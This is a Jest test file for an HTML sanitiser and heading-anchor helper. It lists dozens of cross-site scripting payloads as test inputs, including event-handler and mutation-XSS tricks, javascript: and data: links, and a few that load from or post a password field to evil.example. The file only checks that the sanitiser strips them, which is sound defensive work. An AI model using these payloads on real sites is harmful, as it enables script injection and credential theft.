import { describe, expect, test } from '@jest/globals'
import { JSDOM } from 'jsdom'
import { cleanHtml, withAnchors } from './clean-html'

const TAGS = 'p br strong em u s code a ul ol li h2 h3 h4 blockquote hr table tbody thead tr th td sub sup'.split(' ')
const ATTRIBUTES = ['href', 'target', 'rel', 'colspan', 'rowspan', 'start', 'id']

/** What a browser makes of the HTML: everything in it that the site's rich text does not know. */
function foreignParts(html: string): string[] {
  const { document } = new JSDOM(`<!doctype html><body>${html}`).window
  return [...document.body.querySelectorAll('*')].flatMap((element) => [
    ...(TAGS.includes(element.localName) ? [] : [`<${element.localName}>`]),
    ...element.getAttributeNames().filter((name) => !ATTRIBUTES.includes(name)),
  ])
}

/** Where the links of the HTML lead, as a browser on this site resolves them. */
function targetsOf(html: string): string[] {
  const { document } = new JSDOM(`<!doctype html><body>${html}`, { url: 'https://site.example/page' }).window
  return [...document.links].map((link) => link.href)
}

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>script>alert(1)<</script>/script>',
  '<script/x>alert(1)</script\t>',
  '<script>alert(1)',
  '<p onclick="alert(1)">x</p>',
  '<p/onmouseover=alert(1)>x</p>',
  '<p\nonpointerenter\n=\n"alert(1)">x</p>',
  '<p OnFocus=alert(1) tabindex=0 autofocus>x</p>',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '"><img src=x onerror=alert(1)>',
  '<a href="x" title="</a><img src=x onerror=alert(1)>">x</a>',
  '<td colspan="2&quot; onclick=&quot;alert(1)">x</td>',
  '<a href="/x&quot; onclick=&quot;alert(1)">x</a>',
  '<style>@import "//evil.example"</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<span style="text-decoration:underline;background:url(//evil.example)">x</span>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a title="</style><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
  '<select><option><style></option></select><b><img src=x onerror=alert(1)></style></option>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><?php <img src=x onerror=alert(1)> ?>',
  '<p><plaintext><img src=x onerror=alert(1)>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<details open ontoggle=alert(1)>x</details>',
  '<p id="x" class="y" data-z="1" name="w">x</p>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '<p\0onclick=alert(1)>x</p>',
]

describe('an attack', () => {
  test.each(attacks)('%s leaves nothing foreign behind', (attack) => {
    expect(foreignParts(cleanHtml(attack))).toEqual([])
  })

  test.each(attacks)('%s is the same after a second cleaning', (attack) => {
    const once = cleanHtml(attack)
    expect(cleanHtml(once)).toBe(once)
  })
})

test('what a script, a style or a form field holds is dropped with it', () => {
  expect(cleanHtml('<p>a<script>secret()</script><style>p{}</style><textarea>x</textarea>b</p>')).toBe('<p>ab</p>')
})

test('the words inside an unknown element stay', () => {
  expect(cleanHtml('<div><section><p>Read <font>this</font></p></section></div>')).toBe('<p>Read this</p>')
})

describe('a link', () => {
  test.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' \t\n javascript:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
    'java&#10;script:alert(1)',
    '&#106;avascript:alert(1)',
    '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)',
    'javascript&colon;alert(1)',
    '&#1;javascript:alert(1)',
    '\u00a0javascript:alert(1)',
    '\u0000javascript:alert(1)',
    'vbscript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
    'DATA:text/html;base64,PHNjcmlwdD4=',
    'blob:https://site.example/1',
    'file:///etc/passwd',
    'ftp://evil.example/',
    'view-source:https://evil.example',
    'intent://evil.example',
  ])('to %j is only its text', (href) => {
    expect(cleanHtml(`<a href="${href}">x</a>`)).toBe('x')
  })

  test.each(['//evil.example', '/\\evil.example', '\\\\evil.example', '/\t/evil.example', '/&#10;/evil.example'])(
    'to %j leads to no other site',
    (href) => {
      expect(targetsOf(cleanHtml(`<a href="${href}">x</a>`))).toEqual([])
    },
  )

  test.each([
    'https://example.org/a?b=c#d',
    'http://example.org',
    'HTTPS://example.org',
    'mailto:a@example.org',
    'tel:+15550100',
    '/services#top',
    '#top',
  ])('to %s stays', (href) => {
    expect(cleanHtml(`<a href="${href}">x</a>`)).toBe(`<a href="${href}">x</a>`)
  })

  test('into a new tab gives that tab no way back', () => {
    expect(cleanHtml('<a href="/x" target="_blank" rel="opener">x</a>')).toBe(
      '<a href="/x" target="_blank" rel="noopener noreferrer">x</a>',
    )
  })

  test.each(['_top', '_parent', 'main'])('may not choose the frame %s', (target) => {
    expect(cleanHtml(`<a href="/x" target="${target}">x</a>`)).toBe('<a href="/x">x</a>')
  })
})

describe('what the editor writes', () => {
  test.each([
    ['<h1>A</h1>', '<h2>A</h2>'],
    ['<h5>A</h5><h6>B</h6>', '<h4>A</h4><h4>B</h4>'],
    ['<b>a</b><i>b</i><del>c</del><strike>d</strike>', '<strong>a</strong><em>b</em><s>c</s><s>d</s>'],
    ['<span style="text-decoration: underline">a</span>', '<u>a</u>'],
    ['<span style="text-decoration: line-through">a</span>', '<s>a</s>'],
    ['<span style="color: red">a</span>', 'a'],
    ['<ol start="3"><li>a</li></ol>', '<ol start="3"><li>a</li></ol>'],
    [
      '<table><tbody><tr><th colspan="2" scope="row">a</th><td rowspan="2">b</td></tr></tbody></table>',
      '<table><tbody><tr><th colspan="2">a</th><td rowspan="2">b</td></tr></tbody></table>',
    ],
    ['  <p>a</p>\n', '<p>a</p>'],
    ['<p>5 < 6 & 7 > 2</p>', '<p>5 &lt; 6 &amp; 7 &gt; 2</p>'],
  ])('%s becomes %s', (written, kept) => {
    expect(cleanHtml(written)).toBe(kept)
  })
})

describe('anchors', () => {
  test('are made of the text of each h2 and h3', () => {
    expect(withAnchors('<h2>Security Policy</h2><p>x</p><h3>Our Team</h3>')).toBe(
      '<h2 id="security-policy">Security Policy</h2><p>x</p><h3 id="our-team">Our Team</h3>',
    )
  })

  test('leave an h4 alone', () => {
    expect(withAnchors('<h4>Small print</h4>')).toBe('<h4>Small print</h4>')
  })

  test('of equal headings are numbered, whichever their level', () => {
    expect(withAnchors('<h2>Team</h2><h3>Team</h3><h2>team!</h2>').match(/(?<=id=")[^"]+/g)).toEqual([
      'team',
      'team-2',
      'team-3',
    ])
  })

  test('do not move when another heading is put in between', () => {
    const before = withAnchors('<h2>A</h2><h2>B</h2>')
    expect(withAnchors('<h2>A</h2><h2>New</h2><h2>B</h2>').replace('<h2 id="new">New</h2>', '')).toBe(before)
  })

  test('come from the text without its marks and entities', () => {
    expect(withAnchors('<h2>R&amp;D <strong>&lt;Labs&gt;</strong></h2>')).toContain('id="r-d-labs"')
  })

  test.each(['日本語', '&amp;', ' ', ''])('of a heading without letters (%j) are still there', (text) => {
    expect(withAnchors(`<h2>${text}</h2>`)).toBe(`<h2 id="section">${text}</h2>`)
  })

  test('cannot be broken out of', () => {
    expect(foreignParts(withAnchors(cleanHtml('<h2>&quot; onclick=&quot;alert(1)</h2>')))).toEqual([])
  })
})
